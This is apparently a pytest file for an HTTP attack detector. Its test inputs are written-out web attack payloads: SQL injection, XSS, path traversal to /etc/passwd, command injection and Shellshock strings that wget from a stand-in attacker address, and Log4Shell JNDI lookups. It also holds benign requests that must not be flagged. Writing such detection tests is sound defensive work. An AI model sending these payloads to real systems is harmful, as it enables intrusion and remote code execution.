@@ -1,0 +1,101 @@
+"""Web attacks, and requests that merely look odd."""
+
+from typing import Any
+
+import pytest
+
+from sensors.values import Kind
+
+A = "192.0.2.7"
+
+
+def _get(path: str, at: float = 0.0, **fields: Any) -> dict[str, Any]:
+    return {"at": at, "orig": A, "method": "GET", "path": path, "agent": "Mozilla/5.0", "status": 200, **fields}
+
+
+@pytest.mark.parametrize(
+    ("path", "reason"),
+    [
+        ("/item.php?id=1%27%20UNION%20SELECT%20name,pw%20FROM%20users--", "web.sql"),
+        ("/item.php?id=1+and+sleep(5)", "web.sql"),
+        ("/item.php?id=%2527%2520or%25201%253D1", "web.sql"),
+        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "web.script"),
+        ("/?q=%22onerror%3D1%3E%3Csvg%20onload=alert(1)%3E", "web.script"),
+        ("/static/..%2f..%2f..%2fetc/passwd", "web.traversal"),
+        ("/?page=php://filter/convert.base64-encode/resource=index", "web.traversal"),
+        ("/ping?host=127.0.0.1;cat%20/etc/hosts", "web.command"),
+        ("/?x=$(wget%20http://203.0.113.1/a)", "web.command"),
+        ("/?x=${jndi:ldap://203.0.113.1/a}", "web.lookup"),
+        ("/?x=%24%7B%24%7Blower:j%7Dndi:ldap://203.0.113.1/a%7D", "web.lookup"),
+        ("/index.php?s=/index/think/app/invokefunction&function=phpinfo", "web.code"),
+    ],
+)
+def test_one_plain_injection_is_enough(world: Any, path: str, reason: str) -> None:
+    world.read(Kind.HTTP, [_get(path)])
+    assert reason in world.reasons()
+    assert world.worst(A) >= 0.8
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/search?q=union+select+committee", "/search?q=O%27Reilly+and+sons", "/wiki/Cross-site_scripting", "/a;id=12",
+        "/shop?sort=price&order=desc&q=5+or+6+inch", "/css/../css/site.css", "/docs/select-from-where.html",
+        "/?utm_source=a%26b&next=https://example.org/", "/s?q=rock+%27n%27+roll+--+best+of", "/files/report(1).pdf",
+        "/search?q=update+your+table+from+ikea", "/?redirect=/login%3Fx%3D1", "/javascript:void(0)", "/?q=cat+food",
+    ],
+)  # fmt: skip
+def test_ordinary_requests_are_nothing(world: Any, path: str) -> None:
+    world.read(Kind.HTTP, [_get(path)])
+    assert world.findings == []
+
+
+def test_injection_in_the_user_agent(world: Any) -> None:
+    world.read(Kind.HTTP, [_get("/", agent="() { :; }; /bin/bash -c 'wget http://203.0.113.1'")])
+    assert world.worst(A) >= 0.8
+
+
+def test_a_scanner_names_itself(world: Any) -> None:
+    world.read(Kind.HTTP, [_get("/", agent="sqlmap/1.7 (https://sqlmap.org)"), _get("/a", 1, agent="sqlmap/1.7")])
+    assert world.worst(A) >= 0.8
+
+
+def test_one_odd_file_is_weak_and_several_are_not(world: Any) -> None:
+    world.read(Kind.HTTP, [_get("/.env", status=404)])
+    assert world.worst(A) < 0.4
+    world.read(Kind.HTTP, [_get(path, 5, status=404) for path in ("/.git/config", "/backup.sql", "/wp-config.php")])
+    assert world.worst(A) >= 0.8
+
+
+def test_a_tool_that_looks_for_paths(world: Any) -> None:
+    world.read(Kind.HTTP, [_get(f"/dir{n}", n * 0.2, status=404) for n in range(60)])
+    assert world.worst(A) >= 0.8
+    assert world.reasons() == {"web.probing"}
+
+
+def test_a_page_with_a_few_dead_links(world: Any) -> None:
+    world.read(Kind.HTTP, [_get(f"/old{n}.png", n * 0.2, status=404) for n in range(6)])
+    world.read(Kind.HTTP, [_get("/favicon.ico", 30.0 + n, status=404) for n in range(60)])
+    assert world.findings == []
+
+
+def test_guessing_at_a_login_form(world: Any) -> None:
+    world.read(Kind.HTTP, [_get("/login", n * 1.0, method="POST") for n in range(40)])
+    assert world.worst(A) >= 0.8
+    assert "web.guessing" in world.reasons()
+
+
+def test_a_session_that_expired_once(world: Any) -> None:
+    world.read(Kind.HTTP, [_get("/api/me", status=401), _get("/login", 2, method="POST"), _get("/api/me", 3)])
+    assert world.worst(A) < 0.2
+
+
+def test_a_flood_of_requests(world: Any) -> None:
+    world.read(Kind.HTTP, [_get("/", n * 0.001) for n in range(6000)])
+    assert world.worst(A) >= 0.8
+    assert "flood.http" in world.reasons()
+
+
+def test_hostile_texts_do_not_break_anything(world: Any) -> None:
+    paths = ["%" * 5000, "%ff%fe%00", "\ud800", "/" * 70000, "${" * 3000, "(" * 4096, "\x00\x01"]
+    world.read(Kind.HTTP, [_get(path, agent=path, referrer=path, method=path[:20]) for path in paths])
